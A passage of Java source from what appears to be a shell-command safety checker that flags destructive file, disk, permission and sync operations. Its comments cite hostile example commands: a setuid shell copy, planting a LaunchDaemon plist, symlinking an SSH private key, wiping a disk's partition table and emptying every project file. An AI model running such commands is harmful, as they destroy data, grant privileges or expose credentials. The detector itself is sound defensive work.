            dir = ops.get(0).equals("clean") ? c.env().get("PRE_COMMIT_HOME") : null;
        } else if ((prog.equals("gradle") || prog.equals("gradlew")) && ops.stream().anyMatch(o -> o.equals("clean")
                || o.endsWith(":clean"))) {
            // gradle clean -PbuildDir=DIR: clean deletes the build directory the property names
            dir = c.env().get("ORG_GRADLE_PROJECT_buildDir");
            List<String> args = c.args();
            for (int i = 0; i < args.size(); i++) {
                String a = args.get(i);
                String prop = a.startsWith("-P") || a.startsWith("-D") ? a.substring(2)
                        : (a.equals("--project-prop") || a.equals("--system-prop")) && i + 1 < args.size() ? args.get(i + 1) : "";
                if (prop.isEmpty() && (a.equals("-P") || a.equals("-D")) && i + 1 < args.size()) {
                    prop = args.get(i + 1);
                }
                prop = prop.startsWith("org.gradle.project.") ? prop.substring(19) : prop;
                if (prop.startsWith("buildDir=") || prop.startsWith("layout.buildDirectory=")) {
                    dir = prop.substring(prop.indexOf('=') + 1);
                }
            }
        }
        if (dir == null || dir.isEmpty()) {
            return;
        }
        Optional<Targets> t = Targets.of(c, dir);
        if (t.isEmpty()) {
            out.add(DELETE_DYNAMIC.finding("deletes '" + dir + "', a directory only known at run time", c.text()));
            return;
        }
        out.path(t.get().path().toString(), PathUse.Access.DELETE, c.text());
        judgeRecursiveDelete(c, t.get(), true, out);
    }

    private static void judgeMoveAway(Invocation c, Targets t, Report out) {
        Place place = t.place();
        String where = t.path().toString();
        switch (place) {
            case ROOT, HOME_ANCESTOR, HOME, PROJECT_ANCESTOR ->
                    out.add(DELETE_CATASTROPHIC.finding(describe(place, where).replace("recursive delete of", "moves away"),
                            c.text()));
            case PROJECT_ROOT -> out.add(DELETE_OUTSIDE.finding("moves the whole project away: " + where, c.text()));
            case PROJECT_GIT -> {
                if (t.path().equals(c.context().projectRoot().resolve(".git"))) {
                    out.add(DELETE_GIT.finding("moves the repository's .git directory away", c.text()));
                }
            }
            default -> judgeFileDelete(c, t, "moves away", out);
        }
    }

    /** The finding for deleting a whole tree (or every entry of a directory). */
    static void judgeRecursiveDelete(Invocation c, Targets t, boolean recursive, Report out) {
        Place place = t.place();
        String where = t.path().toString();
        if (place == Place.PROJECT && !c.findNames().isEmpty() && (c.via("find") || c.findRoot().isPresent())) {
            // find src -name '*.pyc' -delete: the files it names, not the directory it walks; under build
            // output (find build -name '*.map' -delete, find tmp ...) as harmless as rm -rf build
            String rel = c.context().projectRoot().relativize(t.path()).toString();
            if (!c.findNames().stream().allMatch(FilesystemPack::regenerable) && !buildOutputPath(rel)
                    && !underOutput(t.path().getFileName())) {
                out.add(DELETE_PATTERN.finding("deletes every file named " + String.join(" or ", c.findNames())
                        + " under " + where, c.text()));
            }
            return;
        }
        if (t.someFiles()) {
            // e.g. rm -rf /tmp/*.log or rm -rf ~/x*: some entries of that directory, not all of it
            if (place.catastrophic() || place == Place.HOME_INSIDE && !homeCache(t.path(), c.context())
                    || place == Place.OUTSIDE) {
                out.add(DELETE_OUTSIDE.finding("recursive delete of entries of " + where, c.text()));
            }
            return;
        }
        switch (place) {
            case ROOT, HOME_ANCESTOR, HOME, PROJECT_ANCESTOR, SYSTEM, DEVICE ->
                    out.add(DELETE_CATASTROPHIC.finding(describe(place, where), c.text()));
            case PROJECT_ROOT -> {
                if (c.via("find") || c.findRoot().isPresent()) {
                    List<String> names = c.findNames();
                    if (names.isEmpty()) {
                        out.add(DELETE_CATASTROPHIC.finding(HIGH, "deletes files throughout the project (find ... -delete)", c.text()));
                    } else if (!names.stream().allMatch(FilesystemPack::regenerable)) {
                        out.add(DELETE_PATTERN.finding("deletes every file named " + String.join(" or ", names)
                                + " throughout the project", c.text()));
                    }
                } else {
                    out.add(DELETE_CATASTROPHIC.finding("deletes the whole project", c.text()));
                }
            }
            case PROJECT_GIT -> out.add(DELETE_GIT.finding(c.text()));
            case TEMP_ROOT -> out.add(DELETE_OUTSIDE.finding("deletes the whole temporary directory " + where
                    + ", which other programs are using", c.text()));
            case HOME_INSIDE -> {
                if (!homeCache(t.path(), c.context())) {
                    out.add(DELETE_OUTSIDE.finding("recursive delete in the home directory outside the project: " + where, c.text()));
                }
            }
            case OUTSIDE -> out.add(DELETE_OUTSIDE.finding("recursive delete outside the project: " + where, c.text()));
            case PROJECT -> {
                Path rel = c.context().projectRoot().relativize(t.path());
                String first = rel.getName(0).toString();
                if (BUILD_OUTPUT.contains(first) || first.endsWith(".egg-info") || buildAnywhere(rel)) {
                    return;
                }
                if (rel.getNameCount() == 1 && SOURCE.contains(first)) {
                    out.add(DELETE_SOURCE.finding("recursive delete of the project's " + first + " directory", c.text()));
                } else if (recursive) {
                    out.add(DELETE_IN_PROJECT.finding(c.text()));
                }
            }
            default -> { }
        }
    }

    /** find tests/output -name '*.snap.new' -delete: the directory walked is an output directory itself. */
    private static boolean underOutput(@org.jspecify.annotations.Nullable Path name) {
        return name != null && BUILD_OUTPUT.contains(name.toString()) && !name.toString().equals(".idea")
                && !name.toString().equals(".vscode");
    }

    private static boolean buildAnywhere(Path rel) {
        for (int i = 0; i < rel.getNameCount(); i++) {
            String n = rel.getName(i).toString();
            if (n.equals("node_modules") || n.equals("__pycache__") || n.equals("target") || n.equals("build")
                    || n.equals("dist") || n.equals(".cache")) {
                return true;
            }
        }
        return false;
    }

    private static boolean homeCache(Path p, AnalysisContext ctx) {
        Path rel = ctx.home().relativize(p);
        String s = rel.toString();
        for (String cache : HOME_CACHES) {
            if (s.equals(cache) || s.startsWith(cache + "/")) {
                return true;
            }
        }
        return false;
    }

    private static String describe(Place place, String where) {
        return switch (place) {
            case ROOT -> "recursive delete of the root file system";
            case HOME -> "recursive delete of the home directory";
            case HOME_ANCESTOR -> "recursive delete of every user's home (" + where + ")";
            case PROJECT_ANCESTOR -> "recursive delete of " + where + ", which contains the project";
            case DEVICE -> "recursive delete of device files (" + where + ")";
            default -> "recursive delete of the system directory " + where;
        };
    }

    private static void files(Invocation c, List<String> words, PathUse.Access access, Report out) {
        for (String w : words) {
            c.path(w).ifPresent(p -> out.path(p.toString(), access, c.text()));
        }
    }

    private static void shred(Invocation c, Report out) {
        for (String w : c.operands(Set.of("-n", "-s", "--iterations", "--size", "--random-source"))) {
            Optional<Path> p = c.path(w);
            if (p.isEmpty()) {
                out.add(SHRED.finding(c.text()));
                continue;
            }
            out.path(p.get().toString(), PathUse.Access.DELETE, c.text());
            Place place = c.place(p.get());
            if (place == Place.DEVICE) {
                out.add(DISK_FORMAT.finding("securely wipes the disk device " + p.get(), c.text()));
            } else if (place != Place.TEMP && place != Place.DEVICE_HARMLESS) {
                out.add(SHRED.finding(c.text()));
            }
        }
    }

    /**
     * True when the command acts on what a listing found ({@code find ... -exec CMD {}},
     * {@code git ls-files | xargs CMD}) and the listing is not limited to regenerable names.
     */
    private static boolean listed(Invocation c) {
        if (!c.via("find") && c.findRoot().isEmpty()) {
            return false;
        }
        Optional<Path> root = c.findRoot();
        Path project = c.context().projectRoot();
        if (root.isPresent() && root.get().startsWith(project) && !root.get().equals(project)
                && buildOutputPath(project.relativize(root.get()).toString())) {
            return false; // find logs -type f -exec truncate -s 0 {} +: regenerable output
        }
        List<String> names = c.findNames();
        return names.isEmpty() || !names.stream().allMatch(FilesystemPack::regenerable);
    }

    private static void truncate(Invocation c, Report out) {
        emptied(c, c.operands(Set.of("-s", "--size", "-r", "--reference", "-o")), out);
    }

    /**
     * Tools that destroy a file's content in place: {@code fallocate --punch-hole/--zero-range/
     * --collapse-range} (zeroes or cuts out a range), {@code xfs_io -c 'truncate 0'} (and
     * {@code pwrite}, {@code fpunch}, {@code fzero}, {@code fcollapse}); judged as {@code truncate}.
     */
    private static void rangeWrite(Invocation c, Report out) {
        if (c.program().equals("fallocate")) {
            if (c.flag("-p", "--punch-hole", "-z", "--zero-range", "-c", "--collapse-range", "-i", "--insert-range")) {
                emptied(c, c.operands(Set.of("-o", "--offset", "-l", "--length")), out);
            }
            return;
        }
        List<String> args = c.args();
        for (int i = 0; i + 1 < args.size(); i++) {
            String cmd = args.get(i).equals("-c") ? args.get(i + 1).strip().toLowerCase(java.util.Locale.ROOT) : "";
            for (String verb : new String[] {"truncate", "pwrite", "fpunch", "fzero", "fcollapse", "finsert", "zero"}) {
                if (cmd.startsWith(verb)) {
                    emptied(c, c.operands(Set.of("-c", "-C", "-p")), out);
                    return;
                }
            }
        }
    }

    private static void emptied(Invocation c, List<String> files, Report out) {
        for (String w : files) {
            if (w.contains("{}") || listed(c)) {
                // git ls-files | xargs truncate -s 0, find -exec truncate {}: every file the listing names
                out.add(TRUNCATE.finding("empties every file a listing names under " + w, c.text()));
                continue;
            }
            Optional<Path> p = c.path(w);
            if (p.isEmpty()) {
                out.add(TRUNCATE.finding(c.text()));
                continue;
            }
            out.path(p.get().toString(), PathUse.Access.WRITE, c.text());
            Place place = c.place(p.get());
            if (place == Place.PROJECT && buildOutputPath(w)) {
                continue; // truncate -s 0 storage/logs/app.log, as : > storage/logs/app.log
            }
            if (place == Place.PROJECT || place == Place.PROJECT_GIT || place == Place.HOME_INSIDE || place == Place.OUTSIDE) {
                out.add(TRUNCATE.finding(place == Place.PROJECT ? MEDIUM : HIGH,
                        TRUNCATE.description() + ": " + p.get(), c.text()));
            }
        }
    }

    // ---- disks -----------------------------------------------------------------------------

    private static void dd(Invocation c, Report out) {
        for (String a : c.args()) {
            if (a.startsWith("of=")) {
                Optional<Path> p = c.path(a.substring(3));
                p.ifPresent(x -> out.path(x.toString(), PathUse.Access.WRITE, c.text()));
            } else if (a.startsWith("if=")) {
                Optional<Path> p = c.path(a.substring(3));
                p.ifPresent(x -> out.path(x.toString(), PathUse.Access.READ, c.text()));
            }
        }
    }

    private static void format(Invocation c, Report out) {
        List<String> ops = c.operands(Set.of("-t", "-L", "-b", "-c", "-C", "-E", "-g", "-G", "-i", "-I", "-j", "-J",
                "-l", "-m", "-M", "-N", "-o", "-O", "-r", "-T", "-U", "-e", "-z", "-d", "-n", "-p", "-s", "-v",
                "--type", "--label", "--uuid"));
        if (c.flag("--help", "-h", "-V", "--version") && ops.isEmpty()) {
            return;
        }
        boolean device = ops.isEmpty();
        for (String w : ops) {
            Optional<Path> p = c.path(w);
            if (p.isEmpty() || c.place(p.get()) == Place.DEVICE || Invocation.dynamic(w)) {
                device = true;
            } else {
                out.path(p.get().toString(), PathUse.Access.WRITE, c.text());
            }
        }
        if (device) {
            out.add(DISK_FORMAT.finding(c.text()));
        } else {
            out.add(DISK_FORMAT.finding(MEDIUM, "creates a file system inside an image file", c.text()));
        }
    }

    private static void partition(Invocation c, Report out) {
        if (c.flag("-l", "--list", "-s", "--show-size", "-p", "--print", "--help", "-h", "-V", "--version", "-d", "--dump")
                || c.args().contains("print") || c.args().isEmpty() && !c.program().equals("cfdisk")) {
            return;
        }
        out.add(DISK_FORMAT.finding("changes a disk's partition table", c.text()));
    }

    private static final Set<String> PARTED_CHANGES = Set.of("mklabel", "mktable", "rm", "resizepart", "resize",
            "mkpart", "mkpartfs", "mkfs", "move", "rescue");

    /**
     * parted: {@code -s} is script mode here (not sfdisk's show-size), so {@code parted -s
     * /dev/sda mklabel gpt} runs without a prompt. Listing and printing are read-only; an
     * interactive session on a device is not.
     */
    private static void parted(Invocation c, Report out) {
        if (c.flag("-l", "--list", "--help", "-h", "-v", "--version")) {
            return;
        }
        List<String> ops = c.operands(Set.of("-a", "--align"));
        if (ops.isEmpty()) {
            return;
        }
        for (String o : ops) {
            String v = o.toLowerCase(java.util.Locale.ROOT);
            if (PARTED_CHANGES.contains(v)) {
                out.add(DISK_FORMAT.finding("parted " + v + " changes the disk's partition table"
                        + (v.equals("mklabel") || v.equals("mktable") ? ", losing every partition on it" : ""), c.text()));
                return;
            }
        }
        if (ops.size() == 1) {
            out.add(DISK_FORMAT.finding("opens parted on a disk, taking partitioning commands from standard input", c.text()));
        }
    }

    private static final Set<String> DISKUTIL_WIPE = Set.of("erasedisk", "erasevolume", "reformat", "zerodisk",
            "randomdisk", "secureerase", "partitiondisk", "splitpartition", "mergepartitions", "resizevolume",
            "deletecontainer", "deletevolume", "erase", "deletesnapshot", "addpartition", "eraseoptical");
    private static final Set<String> DISKUTIL_READ = Set.of("list", "info", "activity", "listfilesystems", "verifydisk",
            "verifyvolume", "information", "help");

    private static void diskutil(Invocation c, Report out) {
        for (String a : c.operands()) {
            String v = a.toLowerCase(java.util.Locale.ROOT);
            if (DISKUTIL_READ.contains(v)) {
                return;
            }
            if (DISKUTIL_WIPE.contains(v)) {
                out.add(DISK_FORMAT.finding(c.text()));
                return;
            }
        }
    }

    // ---- permissions -----------------------------------------------------------------------

    private static void chmod(Invocation c, Report out) {
        List<String> ops = c.operands(Set.of("--reference"));
        boolean recursive = c.flag("-R", "--recursive");
        String mode = null;
        int first = 0;
        if (c.option("--reference").isEmpty()) {
            // a leading "-w"-style mode looks like an option; take it back
            for (String a : c.args()) {
                if (a.length() > 1 && a.charAt(0) == '-' && isSymbolicMode(a)) {
                    mode = a;
                    break;
                }
                if (!a.startsWith("-")) {
                    break;
                }
            }
            if (mode == null && !ops.isEmpty()) {
                mode = ops.get(0);
                first = 1;
            }
        }
        boolean world = mode != null && worldWritable(mode);
        boolean setuid = mode != null && setuid(mode);
        for (int i = first; i < ops.size(); i++) {
            Optional<Path> p = c.path(ops.get(i));
            if (p.isEmpty()) {
                continue;
            }
            boolean execBit = mode != null && (mode.equals("+x") || mode.equals("u+x") || mode.equals("a+x")
                    || mode.equals("ug+x"));
            if (!(execBit && p.get().toString().contains("/node_modules/.bin/"))) {
                // (chmod +x node_modules/.bin/*: the package manager's own links made runnable, content unchanged)
                out.path(p.get().toString(), PathUse.Access.WRITE, c.text());
            }
            Place place = c.place(p.get());
            if (recursive && broad(place)) {
                out.add(CHMOD_BROAD.finding(c.text()));
            } else if (place == Place.ROOT || place == Place.HOME || place == Place.HOME_ANCESTOR) {
                out.add(CHMOD_BROAD.finding(HIGH, "changes the permissions of " + p.get(), c.text()));
            } else if (setuid) {
                out.add(CHMOD_SETUID.finding(c.text()));
            } else if (world && place != Place.TEMP) {
                out.add(CHMOD_WORLD.finding(c.text()));
            }
        }
    }

    private static boolean broad(Place place) {
        return place.catastrophic() || place == Place.PROJECT_ROOT || place == Place.TEMP_ROOT;
    }

    private static boolean isSymbolicMode(String a) {
        // -w, -x, -rwx, -s: chmod takes these as modes
        for (int i = 1; i < a.length(); i++) {
            if ("rwxXst".indexOf(a.charAt(i)) < 0) {
                return false;
            }
        }
        return a.length() > 1 && a.charAt(0) == '-' && !a.equals("-R");
    }

    /** Octal modes with the "others" write bit, or symbolic modes granting o/a write. */
    static boolean worldWritable(String mode) {
        if (mode.isEmpty() || Invocation.dynamic(mode)) {
            return false;
        }
        if (Character.isDigit(mode.charAt(0))) {
            char last = mode.charAt(mode.length() - 1);
            return last == '2' || last == '3' || last == '6' || last == '7';
        }
        for (String clause : mode.split(",")) {
            int op = indexOfAny(clause, "+=");
            if (op < 0) {
                continue;
            }
            String who = clause.substring(0, op);
            String perms = clause.substring(op + 1);
            if ((who.contains("o") || who.contains("a")) && perms.contains("w")) {
                return true;
            }
        }
        return false;
    }

    static boolean setuid(String mode) {
        if (mode.isEmpty() || Invocation.dynamic(mode)) {
            return false;
        }
        if (Character.isDigit(mode.charAt(0))) {
            if (mode.length() < 4) {
                return false;
            }
            char special = mode.charAt(mode.length() - 4);
            return special == '4' || special == '2' || special == '6' || special == '7';
        }
        int plus = indexOfAny(mode, "+=");
        return plus >= 0 && mode.indexOf('s', plus) > 0;
    }

    private static int indexOfAny(String s, String chars) {
        for (int i = 0; i < s.length(); i++) {
            if (chars.indexOf(s.charAt(i)) >= 0) {
                return i;
            }
        }
        return -1;
    }

    private static void chown(Invocation c, Report out) {
        List<String> ops = c.operands(Set.of("--reference", "--from"));
        boolean recursive = c.flag("-R", "--recursive");
        int first = c.option("--reference").isPresent() ? 0 : 1;
        boolean flagged = false;
        for (int i = first; i < ops.size(); i++) {
            Optional<Path> p = c.path(ops.get(i));
            if (p.isEmpty()) {
                continue;
            }
            out.path(p.get().toString(), PathUse.Access.WRITE, c.text());
            Place place = c.place(p.get());
            if (recursive && broad(place)) {
                out.add(CHMOD_BROAD.finding(c.text()));
                flagged = true;
            }
        }
        if (!flagged && ops.size() > first) {
            out.add(CHOWN.finding(c.text()));
        }
    }

    // ---- rsync --delete ---------------------------------------------------------------------

    private static final Set<String> RSYNC_VALUED = Set.of("-e", "--rsh", "--exclude", "--include", "--exclude-from",
            "--include-from", "--files-from", "--filter", "-f", "--log-file", "--password-file", "--port", "--bwlimit",
            "--backup-dir", "--suffix", "--chmod", "--chown", "--timeout", "--max-size", "--min-size", "-B",
            "--block-size", "-T", "--temp-dir", "--partial-dir", "--compare-dest", "--copy-dest", "--link-dest",
            "--rsync-path", "--max-delete", "--out-format", "--info", "--debug", "-M", "--remote-option",
            "--usermap", "--groupmap", "--iconv", "--contimeout", "--sockopts", "--skip-compress", "--modify-window");

    /**
     * {@code rsync --delete SRC/ DEST} makes DEST a mirror of SRC: whatever DEST holds that SRC
     * lacks is deleted, so an empty or unrelated source empties DEST. Judged like
     * {@code rm -rf DEST/*} (the directory itself stays), by where DEST is. Without a trailing
     * slash the source's own directory is mirrored inside DEST ({@code rsync -a --delete build ~/}
     * only touches {@code ~/build}). {@code --remove-source-files} deletes the sources' files,
     * judged like a move away. Remote destinations ({@code host:path}) are not this machine's.
     */
    private static void rsyncDelete(Invocation c, Report out) {
        boolean delete = c.flag("--delete", "--del", "--delete-before", "--delete-during", "--delete-delay",
                "--delete-after", "--delete-excluded", "--delete-missing-args");
        boolean removeSources = c.flag("--remove-source-files");
        boolean recursive = c.flag("-r", "-a", "--recursive", "--archive", "-d", "--dirs");
        if (!delete && !removeSources || c.flag("-n", "--dry-run")) {
            return;
        }
        List<String> ops = c.operands(RSYNC_VALUED);
        if (ops.size() < 2) {
            return;
        }
        String dest = ops.get(ops.size() - 1);
        List<String> sources = ops.subList(0, ops.size() - 1);
        if (removeSources) {
            for (String s : sources) {
                if (!remote(s)) {
                    Targets.of(c, s).ifPresent(t -> judgeMoveAway(c, t, out));
                }
            }
        }
        if (!delete || !recursive || remote(dest)) {
            return;
        }
        if (Invocation.dynamic(dest) && c.path(dest).isEmpty()) {
            out.add(DELETE_DYNAMIC.finding("rsync --delete mirrors into '" + dest
                    + "', a directory only the shell decides, deleting what the source lacks", c.text()));
            return;
        }
        String because = "rsync --delete removes everything in the destination that the source lacks: ";
        Report why = Report.mapping(out, f -> new dev.warden.call.Finding(f.id(), f.severity(), because + f.message(),
                f.evidence(), f.hint()));
        for (String s : sources) {
            String local = remote(s) ? s.substring(s.indexOf(':') + 1) : s;
            Path name = local.isEmpty() ? null : Path.of(local).getFileName();
            String mirrored = local.endsWith("/") || Targets.firstWildcard(local) >= 0 || name == null
                    || name.toString().equals(".") || name.toString().equals("..") || Invocation.dynamic(local)
                    ? dest : dest.replaceAll("/+$", "") + "/" + name;
            c.path(mirrored).ifPresent(p -> {
                out.path(p.toString(), PathUse.Access.DELETE, c.text());
                judgeRecursiveDelete(c, new Targets(p, c.place(p), true, false), true, why);
            });
        }
    }

    /**
     * {@code unison A B -batch -force A}: the two roots are made the same, and what one side lacks
     * is deleted on the other. A root that another one is forced or preferred over, or any root of
     * an unattended ({@code -batch}, {@code -auto}) run, is judged as a recursive delete.
     */
    private static void unison(Invocation c, Report out) {
        List<String> args = c.args();
        List<String> roots = new java.util.ArrayList<>(2);
        String winner = null;
        boolean unattended = false;
        for (int i = 0; i < args.size(); i++) {
            String a = args.get(i);
            if (a.startsWith("-")) {
                String o = a.replaceFirst("^-+", "");
                unattended |= o.equals("batch") || o.equals("auto");
                if (UNISON_VALUED.contains(o) && i + 1 < args.size()) {
                    String v = args.get(++i);
                    if (o.equals("force") || o.equals("prefer")) {
                        winner = v;
                    }
                }
            } else if (roots.size() < 2) {
                roots.add(a);
            }
        }
        if (roots.size() != 2 || winner == null && !unattended) {
            return;
        }
        String because = "unison makes both roots the same, deleting in one what the other lacks: ";
        Report why = Report.mapping(out, f -> new dev.warden.call.Finding(f.id(), f.severity(), because + f.message(),
                f.evidence(), f.hint()));
        for (String r : roots) {
            if (r.equals(winner) || r.contains("://") || remote(r)) {
                continue;
            }
            c.path(r).ifPresent(p -> {
                out.path(p.toString(), PathUse.Access.DELETE, c.text());
                judgeRecursiveDelete(c, new Targets(p, c.place(p), true, false), true, why);
            });
        }
    }

    /** {@code zstd -d x.zst -o ~/.bashrc}, {@code lz4 -d x.lz4 OUT}: the output file is written. */
    private static void outputFile(Invocation c, Report out) {
        Optional<String> o = c.option("-o", "--output");
        List<String> ops = c.operands(Set.of("-o", "--output", "-T", "--threads", "-D", "-q", "-B", "-S", "--suffix"));
        String target = o.orElse(c.program().equals("lz4") && ops.size() == 2 ? ops.get(1) : null);
        if (target != null && !target.equals("-")) {
            files(c, List.of(target), PathUse.Access.WRITE, out);
        }
    }

    /**
     * Tools that delete in bulk what a rule selects: {@code rclone sync SRC DST} (what SRC lacks,
     * in DST), {@code rclone delete|purge DIR}, {@code fdupes -d}/{@code jdupes -d} and {@code rdfind
     * -deleteduplicates true} (every duplicate but one), {@code tmpreaper AGE DIR} (files older than
     * AGE). Each local directory they act on is judged as a recursive delete.
     */
    private static void bulkDelete(Invocation c, Report out) {
        List<String> ops = c.operands(Set.of("--config", "--exclude", "--include", "--filter", "--transfers", "--checkers",
                "-o", "-O", "--order", "-x", "--exclude-size", "-X", "--xsize", "-makeresultsfile", "-outputname",
                "-deleteduplicates", "-makesymlinks", "-makehardlinks", "--protect", "-p", "-f"));
        List<String> dirs;
        String because;
        switch (c.program()) {
            case "rclone" -> {
                String sub = ops.isEmpty() ? "" : ops.get(0);
                dirs = sub.equals("sync") && ops.size() > 2 ? List.of(ops.get(2))
                        : (sub.equals("delete") || sub.equals("purge")) && ops.size() > 1 ? List.of(ops.get(1)) : List.of();
                because = "rclone " + sub + " deletes files there: ";
            }
            case "fdupes", "jdupes" -> {
                dirs = c.flag("-d", "--delete") ? ops : List.of();
                because = c.program() + " -d deletes every duplicate but one: ";
            }
            case "rdfind" -> {
                int at = c.args().indexOf("-deleteduplicates");
                dirs = at >= 0 && at + 1 < c.args().size() && c.args().get(at + 1).equals("true") ? ops : List.of();
                because = "rdfind deletes every duplicate but one: ";
            }
            default -> {
                dirs = ops.size() > 1 ? ops.subList(1, ops.size()) : List.of(); // tmpreaper AGE DIR...
                because = c.program() + " deletes the files not used for a while: ";
            }
        }
        if (c.flag("-n", "--dry-run", "--test", "-dryrun")) {
            return;
        }
        Report why = Report.mapping(out, f -> new dev.warden.call.Finding(f.id(), f.severity(), because + f.message(),
                f.evidence(), f.hint()));
        for (String d : dirs) {
            if (!remote(d)) {
                c.path(d).ifPresent(p -> {
                    out.path(p.toString(), PathUse.Access.DELETE, c.text());
                    judgeRecursiveDelete(c, new Targets(p, c.place(p), true, false), true, why);
                });
            }
        }
    }

    private static final Set<String> UNISON_VALUED = Set.of("force", "prefer", "path", "ignore", "ignorenot", "root",
            "logfile", "backup", "backupdir", "sshargs", "servercmd", "addversionno", "copyprog", "copyprogrest", "label",
            "nocreation", "nodeletion", "noupdate", "forcepartial", "preferpartial", "ui", "merge", "rootalias", "ignorecase");

    private static boolean remote(String op) {
        if (op.startsWith("/") || op.startsWith(".") || op.startsWith("~")) {
            return false;
        }
        int colon = op.indexOf(':');
        return colon > 0 && op.substring(0, colon).indexOf('/') < 0 || op.startsWith("rsync://");
    }

    // ---- copies, moves, links --------------------------------------------------------------

    private static final Set<String> COPY_VALUED = Set.of("-t", "--target-directory", "-S", "--suffix", "-m", "--mode",
            "-o", "--owner", "-g", "--group", "--backup", "-Z", "--context");

    /**
     * Files of unknown names written over the root, the home directory, a system directory or a
     * directory above the project: any start-up file or key there may be among them.
     */
    static void overBroadPlace(Invocation c, Path dir, String what, Report out) {
        Place place = c.place(dir);
        if (place == Place.ROOT || place == Place.HOME || place == Place.HOME_ANCESTOR || place == Place.SYSTEM
                || place == Place.PROJECT_ANCESTOR) {
            out.add(EXTRACT_BROAD.finding(what + " over " + dir + ", which can overwrite any file there", c.text()));
        }
    }

    /** {@code rsync -a SRC/ DEST}: the files it writes land under DEST, whatever their names. */
    private static void writesUnder(Invocation c, Report out) {
        List<String> ops = c.operands(Set.of("-e", "--rsh", "--exclude", "--include", "--filter", "-f", "--port",
                "--password-file", "--chmod", "--log-file", "--partial-dir", "--temp-dir", "--backup-dir", "--suffix",
                "--files-from", "--exclude-from", "--include-from", "-T", "-B", "-M", "--timeout", "--bwlimit"));
        if (ops.size() >= 2 && c.flag("-r", "--recursive", "-a", "--archive")) {
            String dest = ops.get(ops.size() - 1);
            boolean contents = false;
            for (String s : ops.subList(0, ops.size() - 1)) {
                contents |= s.endsWith("/") || s.endsWith("/.") || s.equals(".");
            }
            if (contents && dest.indexOf(':') < 0) {
                c.path(dest).ifPresent(d -> overBroadPlace(c, d, "copies a directory's contents", out));
            }
        }
    }

    private static void copy(Invocation c, boolean move, Report out) {
        List<String> ops = c.operands(COPY_VALUED);
        Optional<String> targetDir = c.option("-t", "--target-directory");
        if (c.program().equals("install") && c.option("-m", "--mode").map(FilesystemPack::setuid).orElse(false)) {
            // install -m 4755 /bin/sh /tmp/s: a set-user-ID copy, as chmod u+s would make
            out.add(CHMOD_SETUID.finding(c.text()));
        }
        if (c.program().equals("install") && c.flag("-d", "--directory")) {
            files(c, ops, PathUse.Access.WRITE, out);
            return;
        }
        List<String> sources;
        String dest;
        if (targetDir.isPresent()) {
            sources = ops;
            dest = targetDir.get();
        } else if (ops.size() >= 2) {
            sources = ops.subList(0, ops.size() - 1);
            dest = ops.get(ops.size() - 1);
        } else {
            return;
        }
        for (String s : sources) {
            c.path(s).ifPresent(p -> out.path(p.toString(), move ? PathUse.Access.DELETE : PathUse.Access.READ, c.text()));
            if (move) {
                Targets.of(c, s).ifPresent(t -> judgeMoveAway(c, t, out));
            }
        }
        if (!move && (dest.contains("{}") || listed(c)) && sources.stream().anyMatch(x -> x.equals("/dev/null"))) {
            // find . -name '*.py' -exec cp /dev/null {} \;: every file found is emptied
            out.add(TRUNCATE.finding("empties every file a listing names (cp /dev/null " + dest + ")", c.text()));
        }
        Optional<Path> d = c.path(dest);
        if (move && d.isPresent() && !d.get().startsWith(c.context().projectRoot())) {
            for (String s : sources) {
                // mv src /tmp/: the project's sources taken out of it, as rm -rf src takes them
                Optional<Path> p = c.path(s);
                if (p.isPresent() && p.get().startsWith(c.context().projectRoot()) && !p.get().equals(c.context().projectRoot())) {
                    Path rel = c.context().projectRoot().relativize(p.get());
                    if (rel.getNameCount() == 1 && SOURCE.contains(rel.toString())) {
                        out.add(DELETE_SOURCE.finding("moves the project's " + rel + " directory out of the project, to " + dest,
                                c.text()));
                    }
                }
            }
        }
        if (d.isPresent() && c.flag("-r", "-R", "--recursive", "-a", "--archive") && !move) {
            for (String s : sources) {
                // cp -r dotfiles/. ~/: the directory's contents, whatever names they have, land there
                if (s.endsWith("/.") || s.endsWith("/*") || s.equals(".") || s.equals("*")) {
                    overBroadPlace(c, d.get(), "copies a directory's contents", out);
                    break;
                }
            }
        }
        if (d.isPresent()) {
            out.path(d.get().toString(), PathUse.Access.WRITE, c.text());
            // copying into a directory writes dir/<name>: judge those names too (cp evil.plist /Library/LaunchDaemons/)
            if (sources.size() >= 1 && (dest.endsWith("/") || targetDir.isPresent() || sources.size() > 1
                    || knownDirectory(c, dest, d.get()))) {
                for (String s : sources) {
                    String name = Path.of(s.isEmpty() ? "x" : s).getFileName() == null ? "" : Path.of(s).getFileName().toString();
                    if (!name.isEmpty() && !Invocation.dynamic(name)) {
                        out.path(d.get().resolve(name).toString(), PathUse.Access.WRITE, c.text());
                    }
                }
            }
        }
    }

    /**
     * The files of the project's {@code .git} that hold history: refs, packed refs, objects,
     * reflogs and HEAD. Lock files, hooks, {@code info/exclude} and messages are not history
     * ({@code rm -f .git/index.lock} after a crashed git is routine).
     */
    private static boolean gitHistory(String p, AnalysisContext ctx) {
        String git = ctx.projectRoot().resolve(".git").toString() + "/";
        if (!p.startsWith(git) || p.endsWith(".lock")) {
            return false;
        }
        String rel = p.substring(git.length());
        return rel.equals("packed-refs") || rel.equals("HEAD") || rel.startsWith("refs/") || rel.startsWith("objects/")
                || rel.startsWith("logs/") || rel.equals("refs") || rel.equals("objects") || rel.equals("logs");
    }

    /**
     * A destination that is certainly a directory: {@code .}, {@code ..}, the working directory,
     * the project, home or one of their ancestors. {@code cp -r /tmp/x/.claude ~} writes
     * {@code ~/.claude}.
     */
    private static boolean knownDirectory(Invocation c, String word, Path p) {
        Path home = c.context().home();
        Path project = c.context().projectRoot();
        return word.equals(".") || word.equals("..") || c.cwd().map(p::equals).orElse(false) || home.startsWith(p)
                || project.startsWith(p);
    }

    /** A link exposes its target: {@code ln -s ~/.ssh/id_rsa notes.txt} counts as reading the key. */
    private static void link(Invocation c, Report out) {
        List<String> ops = c.operands(COPY_VALUED);
        Optional<String> targetDir = c.option("-t", "--target-directory");
        List<String> targets;
        if (targetDir.isPresent()) {
            files(c, List.of(targetDir.get()), PathUse.Access.WRITE, out);
            targets = ops;
        } else if (ops.size() >= 2) {
            files(c, List.of(ops.get(ops.size() - 1)), PathUse.Access.WRITE, out);
            targets = ops.subList(0, ops.size() - 1);
        } else {
            targets = ops;
        }
        files(c, targets, PathUse.Access.READ, out);
    }

    // ---- archives --------------------------------------------------------------------------

    private static void unzip(Invocation c, Report out) {
        Optional<String> dir = c.option("-d");
        List<String> ops = c.operands(Set.of("-d", "-x", "-P"));
        if (!ops.isEmpty()) {
            files(c, ops.subList(0, 1), PathUse.Access.READ, out);
        }
